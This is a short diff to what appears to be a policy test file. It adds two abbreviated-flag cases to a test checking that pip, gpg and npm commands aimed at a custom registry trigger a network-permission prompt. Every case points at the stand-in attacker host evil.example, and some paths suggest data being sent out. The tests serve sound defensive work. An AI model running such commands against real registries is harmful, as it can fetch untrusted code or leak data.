@@ -235,6 +235,8 @@ test_ask_network_registry_named if {
 		["pip", "download", "--extra-index-url", "http://evil.example/", "x"],
 		["gpg", "--keyserver", "hkp://data.evil.example", "--recv-keys", "0x1"],
 		["npm", "view", "x", "--@s:registry=http://evil.example/"],
+		["npm", "view", "x", "--reg=http://evil.example/data"],
+		["pip", "download", "--index-u", "http://evil.example/", "x"],
 	] {
 		"ask.network" in rules(simple_call(argv))
 	}
